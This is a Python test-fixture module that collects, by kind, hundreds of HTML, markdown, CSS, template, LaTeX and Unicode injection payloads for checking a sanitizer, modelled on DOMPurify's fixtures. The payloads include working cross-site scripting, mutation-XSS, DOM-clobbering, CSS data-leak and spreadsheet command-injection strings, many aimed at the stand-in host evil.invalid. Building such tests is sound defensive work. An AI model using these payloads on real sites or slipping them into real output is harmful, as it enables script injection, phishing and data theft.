"""Texts that try to become more than text, by kind. Written for this project, in the manner of DOMPurify's fixtures.

What runs sets ``window.hacked``, what loads or leads away asks the host EVIL: a page can tell whether one succeeded.
"""

EVIL = "evil.invalid"
_RUN = "window.hacked=1"
_URL = f"https://{EVIL}/x"

# fmt: off
_ELEMENTS = """
<script>@RUN</script>
<ScRiPt>@RUN</sCrIpT>
<script src=@URL></script>
<script type=module>@RUN</script>
<script/x>@RUN</script >
<script\f>@RUN</script\f>
<<script>@RUN//<</script>
<scr<script>ipt>@RUN</scr</script>ipt>
</script><script>@RUN</script>
<svg><script>@RUN</script></svg>
<svg><script href="@URL"/></svg>
<iframe src="javascript:@RUN"></iframe>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<iframe src="@URL"></iframe>
<object data="javascript:@RUN"></object>
<object data="@URL"></object>
<embed src="@URL">
<embed src="javascript:@RUN">
<applet code="@URL"></applet>
<frameset onload="@RUN"><frame src="@URL"></frameset>
<base href="https://evil.invalid/">
<link rel=stylesheet href="@URL">
<link rel=prefetch href="@URL">
<link rel=preload as=script href="@URL">
<meta http-equiv=refresh content="0;url=@URL">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-@RUN+ADw-/script+AD4-
<img src="@URL">
<img srcset="@URL 1x">
<picture><source srcset="@URL"><img></picture>
<video src="@URL" autoplay></video>
<video poster="@URL"></video>
<audio src="@URL" autoplay></audio>
<track src="@URL">
<input type=image src="@URL">
<form action="@URL"><input name=x autofocus><button>Log in</button></form>
<button formaction="javascript:@RUN">x</button>
<isindex action="javascript:@RUN" type=image>
<bgsound src="@URL">
<portal src="@URL"></portal>
<marquee onstart="@RUN">x</marquee>
<dialog open onclose="@RUN">x</dialog>
<x-widget is="script">@RUN</x-widget>
<custom-element onclick="@RUN">x</custom-element>
<plaintext>everything after this
<xmp><script>@RUN</script></xmp>
<listing>&lt;img src=@URL onerror=@RUN></listing>
<textarea></textarea><script>@RUN</script></textarea>
<title></title><script>@RUN</script></title>
<html onload="@RUN"><body onload="@RUN"><p>x</body></html>
"""
_HANDLERS = """
<img src=x onerror=@RUN>
<img src=x onerror="@RUN">
<img src=x onerror='@RUN'>
<img/src=x/onerror=@RUN>
<img src=x:x onerror\t=\t@RUN>
<img src=x onerror=&#119;indow.hacked=1>
<img src=x OnErRoR=@RUN>
<IMG """ + '"""' + """><img src=x onerror=@RUN>">
<img src=`x`onerror=@RUN>
<svg onload=@RUN>
<svg/onload=@RUN>
<svg><animate onbegin=@RUN attributeName=x dur=1s>
<svg><set onbegin=@RUN attributeName=x>
<body onload=@RUN>
<body onpageshow=@RUN>
<body onresize=@RUN onhashchange=@RUN>
<details open ontoggle=@RUN>x</details>
<input autofocus onfocus=@RUN>
<select autofocus onfocus=@RUN><option>x</select>
<textarea autofocus onfocus=@RUN></textarea>
<button autofocus onfocus=@RUN>x</button>
<a href=# onclick=@RUN autofocus onfocus=@RUN>x</a>
<div onmouseover="@RUN" style="position:fixed;inset:0">x</div>
<p onpointerenter=@RUN>x</p>
<style onload=@RUN></style>
<link rel=stylesheet href="data:text/css," onload=@RUN>
<video onloadstart=@RUN src=x></video>
<audio src=x onerror=@RUN>
<video><source onerror=@RUN></video>
<iframe onload=@RUN></iframe>
<object onerror=@RUN data=x></object>
<div contenteditable autofocus onbeforeinput=@RUN onfocus=@RUN>x</div>
<p style="animation:x 1s" onanimationstart=@RUN>x</p>
<p style="transition:all 1s" ontransitionend=@RUN tabindex=1>x</p>
<svg><a><rect onclick=@RUN width=99 height=99 /></a></svg>
<math><mi onclick=@RUN>x</mi></math>
<table background="@URL"><td background="javascript:@RUN">x</table>
<p oncontentvisibilityautostatechange=@RUN style="content-visibility:auto">x</p>
<div onscrollend=@RUN style="overflow:scroll;height:1px">x<br>y</div>
<input type=checkbox checked onclick=@RUN onchange=@RUN>
"""
_NAMESPACES = """
<svg></p><style><a id="</style><img src=1 onerror=@RUN>">
<math></p><style><!--</style><img src=1 onerror=@RUN>--></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=@RUN>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=@RUN></style></annotation-xml></math>
<svg><foreignObject><iframe onload=@RUN></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=@RUN></desc></svg>
<svg><title><style><img src=x onerror=@RUN></style></title></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image onerror='@RUN'/></svg>#x">
<svg><use xlink:href="@URL#x"/></svg>
<svg><image href="@URL"/></svg>
<svg><feImage href="@URL"/></svg>
<svg><a xlink:href="javascript:@RUN"><text y=20>click</text></a></svg>
<svg><a href="javascript:@RUN"><circle r=99 /></a></svg>
<svg><animate href=#x attributeName=href values=javascript:@RUN /><a id=x><text>x</text></a></svg>
<svg><style>@import '@URL';</style></svg>
<svg><style><![CDATA[</style><script>@RUN</script>]]></style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">@RUN</handler></svg>
<math href="javascript:@RUN">CLICK</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:@RUN">x</maction></math>
<math><mi xlink:href="data:x,<script>@RUN</script>">x</mi></math>
<math><semantics><annotation encoding="application/x-tex">\\href{javascript:@RUN}{x}</annotation></semantics></math>
<noscript><p title="</noscript><img src=x onerror=@RUN>">
<noscript><style></noscript><img src=x onerror=@RUN>
<template><script>@RUN</script></template>
<template shadowrootmode=open><script>@RUN</script><slot></slot></template>
<select><template><style></select><img src=x onerror=@RUN>
<select><noembed></select><script>@RUN</script></noembed></select>
<noembed><p title="</noembed><img src=x onerror=@RUN>">
<noframes><p title="</noframes><img src=x onerror=@RUN>">
<xmp><p title="</xmp><img src=x onerror=@RUN>">
<table><tr><td><svg><td><style></table><img src=x onerror=@RUN>
<p><svg><p></svg><style></p><img src=x onerror=@RUN></style>
<a><a><table><a></table><style><img src=x onerror=@RUN>
<b><i></b><p></i><script>@RUN</script>
<option><style></option></select><b><img src=x onerror=@RUN></style></option>
<dd><dt><svg><dd><title></svg><img src=x onerror=@RUN></title>
<frameset><svg></frameset><img src=x onerror=@RUN>
</table><svg><b></svg></b><iframe srcdoc='<script>parent.hacked=1</script>'>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=@RUN>">
"""
_CLOBBERING = """
<img name=createElement><img id=createElement>
<form name=body><input name=children></form>
<form id=x><input name=attributes><input name=parentNode></form>
<img name=cookie>
<img name=getElementById>
<form name=querySelector></form>
<input name=activeElement autofocus>
<a id=location href="javascript:@RUN">x</a>
<a id=defaultView><a id=defaultView name=document href="@URL">
<iframe name=currentScript></iframe>
<embed name=scripts src=x>
<object id=documentElement></object>
<form id=widget><input id=model name=model></form>
<svg id=jupyterapp></svg>
<img id=hacked><img name=hacked>
<div id=MathJax class=MathJax>x</div>
<output id=constructor name=__proto__>x</output>
<form id=nodeName><button form=nodeName name=removeChild>x</button></form>
<meta name=referrer content=unsafe-url>
<label for=password>x</label><input id=password name=implementation>
"""
_ATTRIBUTES = """
" onmouseover="@RUN" x="
' onmouseover='@RUN' x='
"><script>@RUN</script>
'><script>@RUN</script>
--><script>@RUN</script>
]]><script>@RUN</script>
?><script>@RUN</script>
</pre><script>@RUN</script>
</code></pre><img src=x onerror=@RUN>
</span></div></td></tr></table><script>@RUN</script>
</style><script>@RUN</script>
</textarea><img src=x onerror=@RUN>
</title><img src=x onerror=@RUN>
</iframe></noscript></template><img src=x onerror=@RUN>
&quot; onclick=&quot;@RUN
&#34;&gt;&lt;script&gt;@RUN&lt;/script&gt;
\\" onclick=\\"@RUN
`onmouseover=@RUN`
x" style="position:fixed;inset:0;background:url(@URL)" y="
x" id="location" name="cookie" class="MathJax
x" autofocus tabindex=1 onfocus="@RUN
x" href="javascript:@RUN
x\u2028" onclick="@RUN
<p title='"><script>@RUN</script>'>x
<p title="a@N@Nb@N" onclick=@RUN>x
"""
_STYLES = """
<style>@import url(@URL);</style>
<style>*{background:url(@URL)}</style>
<style>@font-face{font-family:x;src:url(@URL)}</style>
<style>input[value^=a]{background:url(@URL)}</style>
<p style="background:url(@URL)">x</p>
<p style="background:url(javascript:@RUN)">x</p>
<p style="width:expression(@RUN)">x</p>
<p style="-moz-binding:url(@URL)">x</p>
<p style="behavior:url(@URL)">x</p>
<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:999999">Log in again</p>
<p style="font-size:0">hidden</p><p style="display:none">hidden</p>
<p style="list-style:url(@URL)">x</p>
<p style="cursor:url(@URL),auto">x</p>
<p style="x:\\75rl(@URL)">x</p>
<style><!--</style><script>@RUN</script>--></style>
<style>a{content:"</style><script>@RUN</script>"}</style>
"""
_URLS = """
[x](javascript:@RUN)
[x](JaVaScRiPt:@RUN)
[x]( javascript:@RUN )
[x](<javascript:@RUN>)
[x](java\tscript:@RUN)
[x](javascript&colon;@RUN)
[x](javascript&#58;@RUN)
[x](&#106;avascript:@RUN)
[x](&#x6A&#x61vascript:@RUN)
[x](java&Tab;script:@RUN)
[x](java&NewLine;script:@RUN)
[x](java%0ascript:@RUN)
[x](javascript%3A@RUN)
[x](\x01javascript:@RUN)
[x](\u2028javascript:@RUN)
[x](\u00a0javascript:@RUN)
[x](\ufeffjavascript:@RUN)
[x](vbscript:@RUN)
[x](data:text/html,<script>@RUN</script>)
[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=@RUN>)
[x](blob:https://evil.invalid/0)
[x](file:///etc/passwd)
[x](view-source:javascript:@RUN)
[x](feed:javascript:@RUN)
[x](//evil.invalid/x)
[x](\\\\evil.invalid\\x)
[x](/lab/api/shutdown)
[x](?token=1)
[x](#)
[x]()
[x](https:evil.invalid)
[x](about:blank)
[x](https://evil.invalid/" onclick="@RUN)
[x](https://evil.invalid/ "a\\" onclick=\\"@RUN")
[x](https://evil.invalid/ '"><script>@RUN</script>')
[x](mailto:a@b.example" onclick="@RUN)
<javascript:@RUN>
<data:text/html,<script>@RUN</script>>
<https://evil.invalid/"onclick="@RUN>
![x](@URL)
![x](@URL "title")
![x](javascript:@RUN)
![x](data:image/svg+xml,<svg/onload=@RUN>)
![x" onerror="@RUN](@URL)
![](@URL)
[![x](@URL)](javascript:@RUN)
[x][y]@N@N[y]: javascript:@RUN
![x][y]@N@N[y]: @URL
![y]@N@N[y]: <@URL> 'title'
[a](https://a.example)[b](javascript:@RUN "title")
[https://bank.example](https://evil.invalid)
"""
_MARKDOWN = """
before@N@N![x](@URL)@N@Nafter
before@N \t@N<img src=@URL>@N@N<script>@RUN</script>
</div>@N@N![x](@URL)
```@N```@N<script>@RUN</script>
```@N@N@N![x](@URL)@N@N<img src=x onerror=@RUN>
~~~"><script>@RUN</script>@Nx@N~~~
``` onclick=@RUN@Nx@N```
````html@N</code></pre><script>@RUN</script>@N````
```python@N"</span><script>@RUN</script>"@N```
```math@N\\href{javascript:@RUN}{x}@N```
```mermaid@Ngraph LR; a-->b; click a href "javascript:@RUN"@N```
```{python}@Nimport os@N```
```{=html}@N<script>@RUN</script>@N```
`<script>@RUN</script>`{=html}
    <script>@RUN</script>
`</code><script>@RUN</script>`
# <script>@RUN</script> {#location onclick=@RUN}
# createElement
[x](@URL){onclick=@RUN}
|a|b|@N|-|-|@N|`|<script>@RUN</script>`|
|a|@N|-|@N|![x](@URL)|
> ![x](@URL)@N@N> <img src=@URL>
- ![x](@URL)@N@N  <script>@RUN</script>
1. <b>@N@N   ![x](@URL)
<!-- ![x](@URL) -->
<!--@N@N-->@N@N![x](@URL)
<?php echo "x" ?>@N@N<?xml-stylesheet href="@URL"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "@URL">]>
<![CDATA[<script>@RUN</script>]]>
***@N@N<pre>@N@N![x](@URL)@N</pre>
\\<script>@RUN\\</script>
\\![x](@URL)
*<b*>x</b>*
[^1]@N@N[^1]: ![x](@URL)
:::{raw} html@N<script>@RUN</script>@N:::
<details>@N@N![x](@URL)@N@N</details>
"""
_TEMPLATES = """
{{constructor.constructor('@RUN')()}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include "/etc/passwd" %}
${window.hacked=1}
`${window.hacked=1}`
#{window.hacked=1}
<%= window.hacked=1 %>
{{{<script>@RUN</script>}}}
<div ng-app ng-csp><input autofocus ng-focus="$event.view.hacked=1"></div>
<div v-html="'<img src=x onerror=@RUN>'"></div>
<div data-bind="html:'<img src=x onerror=@RUN>'"></div>
<div x-data x-init="@RUN"></div>
<div hx-get="@URL" hx-trigger=load></div>
<button data-commandlinker-command="docmanager:open" data-commandlinker-args='{"path":"x"}'>x</button>
"""
_FORMULAS = """
It costs $5 in May and $10 in June.
$\\href{javascript:@RUN}{x}$
$$\\href{@URL}{x}$$
$\\unicode{x3c}script\\unicode{x3e}$
\\(\\class{dw-hidden}{x}\\)
\\[\\style{position:fixed;inset:0}{x}\\]
$\\cssId{location}{x}$
$\\color{white}{hidden}$
\\begin{equation}\\href{javascript:@RUN}{x}\\end{equation}
$\\require{html}\\data{x=1}{y}$
$\\text{</script><script>@RUN</script>}$
$\\def\\x{\\x\\x}\\x$
\\\\(x\\\\) and \\\\[y\\\\]
$`x`$ and $``y``$
"""
_CHARACTERS = """
<scr\0ipt>@RUN</scr\0ipt>
<\0script>@RUN</script>
<img src=x one\0rror=@RUN>
\0<script>@RUN</script>
\ufeff<script>@RUN</script>
\u202e<tpircs/>1=dekcah<tpircs>
\u2066<script>@RUN</script>\u2069
<\u200bscript>@RUN</script>
\uff1cscript\uff1e@RUN\uff1c/script\uff1e
\u2039script\u203a@RUN
<\u017fcript>@RUN</\u017fcript>
<\u212aeygen autofocus onfocus=@RUN>
\x1b[31m<script>@RUN</script>\x1b]8;;@URL\x07x
\x08\x08\x08<script>@RUN</script>
\ud800<script>@RUN</script>\udfff
&#60;script&#62;@RUN&#60;/script&#62;
&lt;script&gt;@RUN&lt;/script&gt;
&amp;lt;script&amp;gt;@RUN
&#x3C;img src=x onerror=@RUN&#x3E;
&LT;script>@RUN</script>
&#0;&#x110000;&#xD800;&#128;<script>@RUN</script>
<a href="&#14; javascript:@RUN">x</a>
<a href="java&#10;script:@RUN">x</a>
\r<script>@RUN</script>\r\r![x](@URL)
\v\f<script>@RUN</script>\x85![x](@URL)
\u2028\u2028![x](@URL)\u2029\u2029<script>@RUN</script>
a\u0300\u0301\u0302<script>@RUN</script>
+ADw-script+AD4-@RUN+ADw-/script+AD4-
=HYPERLINK("@URL","x")
=cmd|'/c calc'!A0
"""
# fmt: on


def _payloads(block):
    """A payload for each line of a block; @N is a line break in it."""
    lines = block.strip("\n").split("\n")
    return [line.replace("@N", "\n").replace("@RUN", _RUN).replace("@URL", _URL) for line in lines]


KINDS = {
    "elements": _payloads(_ELEMENTS),
    "handlers": _payloads(_HANDLERS),
    "namespaces": _payloads(_NAMESPACES),
    "clobbering": _payloads(_CLOBBERING),
    "attributes": _payloads(_ATTRIBUTES),
    "styles": _payloads(_STYLES),
    "urls": _payloads(_URLS),
    "markdown": _payloads(_MARKDOWN),
    "templates": _payloads(_TEMPLATES),
    "formulas": _payloads(_FORMULAS),
    "characters": _payloads(_CHARACTERS),
}
PAYLOADS = tuple(payload for kind in KINDS.values() for payload in kind)
